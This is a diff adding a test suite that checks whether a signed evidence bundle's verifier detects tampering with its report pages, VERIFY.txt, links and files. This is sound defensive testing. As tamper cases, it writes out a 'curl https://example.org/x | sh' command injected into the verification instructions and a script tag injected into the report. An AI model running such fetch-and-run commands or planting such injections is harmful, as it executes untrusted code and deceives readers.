@@ -1,0 +1,88 @@
+import { beforeAll, describe, expect, test } from "vitest";
+import { examiner, forged, type Payload } from "../../signed-bundle.ts";
+import { checksOf, expectNamed, makeBundles, root } from "./forge.ts";
+
+beforeAll(() => makeBundles());
+
+describe("pages: what people read is what the extract gives, byte for byte", () => {
+  const page = (name: string, change: (text: string) => string) => (it: Payload) => it.page(name, change);
+  test.each<[name: string, change: (payload: Payload) => void, says: RegExp]>([
+    [
+      "a number in the report",
+      page("data/index.html", (text) =>
+        text.replace("<b>1</b> developers with 1 apps", "<b>9</b> developers with 9 apps"),
+      ),
+      /data\/index\.html line \d+ is not what the extract gives/u,
+    ],
+    [
+      "a script in the report",
+      page("data/index.html", (text) => text.replace("</h1>", "</h1><script>document.title = 1</script>")),
+      /data\/index\.html line \d+ is not/u,
+    ],
+    [
+      "a command in VERIFY.txt",
+      page("VERIFY.txt", (text) =>
+        text.replace("$ sha256sum -c manifest", "$ curl https://example.org/x | sh; sha256sum -c manifest"),
+      ),
+      /^VERIFY\.txt line \d+ is not/u,
+    ],
+    [
+      "another key in VERIFY.txt",
+      page("VERIFY.txt", (text) => text.replace(examiner.publicKey.fingerprint, `SHA256:${"A".repeat(43)}`)),
+      /^VERIFY\.txt line \d+ is not/u,
+    ],
+    [
+      "where OPEN.html leads",
+      page("OPEN.html", (text) => text.replace('href="data/index.html"', 'href="https://example.org/"')),
+      /^OPEN\.html line \d+ is not/u,
+    ],
+    [
+      "a line more in bag-info.txt",
+      page("bag-info.txt", (text) => `${text}Source-Organization: The Court\n`),
+      /^bag-info\.txt line \d+ is not/u,
+    ],
+    ["the report taken away", (it) => it.remove("index.html"), /data\/index\.html is not there/u],
+    [
+      "a script beside the report",
+      (it) => it.add("viewer/app.js", "document.title = 1;\n"),
+      /files that this version makes of no extract: data\/viewer\/app\.js/u,
+    ],
+    [
+      "a report nobody made",
+      (it) => it.page("data/report.pdf", () => "%PDF-1.7\n"),
+      /data\/report\.pdf is not what the extract gives/u,
+    ],
+    [
+      "a report for Word with another number",
+      (it) => it.page("data/report.docx", (bytes) => bytes.replace(/.$/su, "x")),
+      /data\/report\.docx is not what the extract gives/u,
+    ],
+    [
+      "a declaration nobody drew up",
+      (it) => it.add("legal/declaration.txt", "I declare\n"),
+      /files that this version makes of no extract: data\/legal\/declaration\.txt/u,
+    ],
+    [
+      "a file of the layout that no check looks at",
+      (it) => it.add("extract/commitments.jsonl", "{}\n"),
+      /files that this version makes of no extract: data\/extract\/commitments\.jsonl/u,
+    ],
+  ])("%s", async (name, change, says) => expectNamed([name, change, "pages", says]));
+
+  test("of another version nothing is said: it makes other pages", async () => {
+    const folder = await forged(root, (it) => {
+      it.acts((all) => {
+        all.at(-1).detail.software = "Exhibit 9.9.9";
+      });
+      it.json("extract/bundle.json", (about) => {
+        about.software = "Exhibit 9.9.9";
+      });
+    });
+    const { checks } = await checksOf(folder);
+    expect(checks.find(({ check }) => check === "pages")).toMatchObject({
+      ok: null,
+      code: "pages-of-another-version",
+      detail: expect.stringMatching(/^the pages are made by Exhibit 9\.9\.9; Exhibit \S+ makes others/u),
+    });
+  });
+});
